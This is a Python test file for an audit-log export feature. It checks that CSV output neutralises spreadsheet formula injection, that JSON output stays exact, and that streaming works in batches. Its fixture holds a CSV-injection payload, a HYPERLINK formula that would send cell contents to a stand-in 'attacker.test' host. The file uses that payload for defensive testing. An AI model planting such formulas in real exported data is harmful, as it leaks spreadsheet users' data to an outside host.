"""Exports of audit records (authz.audit.query.stream, shared by `tollgate audit query` and the
web view): a CSV cell a spreadsheet would run as a formula is defused; JSON lines stay exact."""

from __future__ import annotations

import csv
import io
import json

from authz.audit import query

HOSTILE = '=HYPERLINK("http://attacker.test/?"&A1,"open")'


def _record(**request: str) -> dict[str, object]:
    return {
        "kind": "decision",
        "id": "01900000-0000-7000-8000-000000000000",
        "time": "2026-11-30T10:00:00.000Z",
        "decision": "deny",
        "status": 403,
        "reason": "default_deny",
        "identity": {"subject": "0123456789abcdef0123456789abcdef"},
        "request": {"method": "GET", "host": "app.test", "path": "/a", **request},
    }


def test_a_cell_that_starts_like_a_formula_is_prefixed_in_csv_only() -> None:
    items = [_record(request_id=HOSTILE), _record(request_id="+1", host="@app.test"), _record(request_id="r-1")]
    rows = list(csv.DictReader(io.StringIO("".join(query.stream(items, "csv")))))
    assert rows[0]["request_id"] == "'" + HOSTILE
    assert rows[1]["request_id"] == "'+1" and rows[1]["host"] == "'@app.test"
    assert rows[2]["request_id"] == "r-1" and rows[2]["path"] == "/a"  # ordinary values untouched
    assert rows[0]["status"] == "403"
    exact = [json.loads(line) for line in "".join(query.stream(items, "json")).splitlines()]
    assert exact[0]["request"]["request_id"] == HOSTILE


def test_stream_yields_in_batches_and_write_counts() -> None:
    chunks = list(query.stream([_record()] * 1201, "json", batch=500))
    assert len(chunks) == 3
    assert "".join(chunks).count("\n") == 1201
    assert query.write([_record()] * 1201, io.StringIO(), "csv") == 1201
